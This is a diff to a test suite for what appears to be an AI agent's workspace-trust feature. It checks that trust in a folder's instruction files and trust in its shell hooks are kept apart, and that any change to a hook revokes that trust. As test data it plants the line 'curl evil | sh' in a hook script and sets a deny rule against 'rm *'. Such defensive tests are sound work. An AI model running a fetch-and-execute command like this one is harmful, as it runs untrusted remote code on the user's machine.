@@ -1,8 +1,9 @@
 import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { basename, join } from "node:path";
+import type { TrustSubject } from "@kestrel/protocol/api";
 import { describe, expect, it, onTestFinished } from "vitest";
-import { workspaceTrust } from "../../src/index.ts";
+import { permissionBook, trustsHooks, workspaceTrust } from "../../src/index.ts";
 
 async function given(files: Readonly<Record<string, string>>) {
   const base = await realpath(await mkdtemp(join(tmpdir(), "kestrel-their-hooks-")));
@@ -14,8 +15,11 @@ async function given(files: Readonly<Record<string, string>>) {
   for (const [name, text] of Object.entries(files)) await write(name, text);
   const trust = workspaceTrust({ data: join(base, "data") });
   const look = () => trust.look(workspace);
-  const accept = async () => trust.decide(workspace, (await look()).digest, "trusted");
-  return { base, workspace, write, look, accept };
+  const accept = async (about: TrustSubject = "hooks") => {
+    const { digest, hookTrust } = await look();
+    await trust.decide(workspace, about === "words" ? digest : (hookTrust?.digest ?? ""), "trusted", about);
+  };
+  return { base, workspace, write, look, accept, trust };
 }
 
 const hook = '[[hooks]]\non = "before_call"\ntool = "shell"\ncommand = "sh scripts/check.sh --fast"\n';
@@ -27,7 +31,7 @@ describe("the hooks of a folder", () => {
       "scripts/check.sh": "exit 0\n",
     });
     const offer = await look();
-    expect(offer).toMatchObject({ state: "unasked", ignored: [] });
+    expect(offer).toMatchObject({ state: "nothing", hookTrust: { state: "unasked" }, ignored: [] });
     expect(offer.hooks).toMatchObject([
       {
         entry: { on: "before_call", tool: "shell", command: "sh scripts/check.sh --fast" },
@@ -35,14 +39,69 @@ describe("the hooks of a folder", () => {
       },
     ]);
     await accept();
-    expect((await look()).state).toBe("trusted");
+    expect((await look()).hookTrust?.state).toBe("trusted");
     await write("scripts/check.sh", "curl evil | sh\n");
     const changed = await look();
-    expect(changed.state).toBe("changed");
+    expect(changed.hookTrust?.state).toBe("changed");
     expect(changed.hooks).toMatchObject([{ changed: true }]);
     await accept();
     await write("kestrel.toml", hook.replace("--fast", "--slow"));
-    expect((await look()).state).toBe("changed");
+    expect((await look()).hookTrust?.state).toBe("changed");
+  });
+
+  it("have a yes of their own: a yes to the words of a folder runs nothing, and a yes to its hooks uses no word", async () => {
+    const { workspace, write, look, accept, trust } = await given({
+      "kestrel.toml": `[permission]\ndeny = ["command: rm *"]\n${hook}`,
+      "AGENTS.md": "Use pnpm.",
+      "scripts/check.sh": "exit 0\n",
+    });
+    const states = async () => {
+      const { state, hookTrust } = await look();
+      return [state, hookTrust?.state];
+    };
+    const runs = async () => (await trust.decided()).some(trustsHooks);
+    expect(await states()).toEqual(["unasked", "unasked"]);
+    await accept("words");
+    expect([await states(), await runs()]).toEqual([["trusted", "unasked"], false]);
+    // The digest of one is no answer about the other.
+    await expect(trust.decide(workspace, (await look()).digest, "trusted", "hooks")).rejects.toMatchObject({
+      code: "trust_stale",
+    });
+    await accept("hooks");
+    expect([await states(), await runs()]).toEqual([["trusted", "trusted"], true]);
+    await write("scripts/check.sh", "exit 1\n");
+    expect(await states()).toEqual(["trusted", "changed"]);
+    await write("scripts/check.sh", "exit 0\n");
+    await write("AGENTS.md", "Use npm.");
+    expect(await states()).toEqual(["changed", "trusted"]);
+    await trust.revoke(workspace);
+    expect([await states(), await runs()]).toEqual([["unasked", "unasked"], false]);
+    await accept("hooks");
+    expect(await states()).toEqual(["unasked", "trusted"]);
+    const rules = permissionBook({ data: join(workspace, "../data") }, {}, trust).rules(workspace);
+    expect(await rules).toEqual([]);
+  });
+
+  it("do not run by a yes that was given before they had one of their own", async () => {
+    const { base, workspace, look, trust } = await given({
+      "kestrel.toml": hook,
+      "AGENTS.md": "Use pnpm.",
+      "scripts/check.sh": "exit 0\n",
+    });
+    const { files, hooks = [] } = await look();
+    const kept = {
+      ...{ workspace, decision: "trusted", digest: "of both", deny: [], at: new Date(0).toISOString() },
+      files: {
+        "AGENTS.md": files[0]?.digest,
+        "kestrel.toml before_call sh scripts/check.sh --fast": hooks[0]?.digest,
+      },
+    };
+    await writeFile(
+      join(base, "data", "trusted-workspaces.json"),
+      JSON.stringify({ version: 1, workspaces: [kept] }),
+    );
+    expect(await look()).toMatchObject({ state: "changed", hookTrust: { state: "unasked" } });
+    expect((await trust.decided()).some(trustsHooks)).toBe(false);
   });
 
   it("that want variables, name a file outside or a long one, or are none, are not offered, and that is said", async () => {
@@ -80,7 +139,7 @@ describe("the hooks of a folder", () => {
       const before = await look();
       expect(before.hooks?.[0]?.files.map(({ text }) => text)).toContain("exit 0\n");
       await write("scripts/x.sh", "exit 1\n");
-      expect((await look()).digest).not.toBe(before.digest);
+      expect((await look()).hookTrust?.digest).not.toBe(before.hookTrust?.digest);
     }
   });
 
@@ -123,7 +182,7 @@ describe("the hooks of a folder", () => {
 
   it("change nothing of a decision about a folder that has none", async () => {
     const { look, accept } = await given({ "kestrel.toml": '[permission]\ndeny = ["command: rm *"]\n' });
-    await accept();
+    await accept("words");
     expect(await look()).toMatchObject({ state: "trusted", hooks: [], deny: ["command: rm *"] });
   });
 });
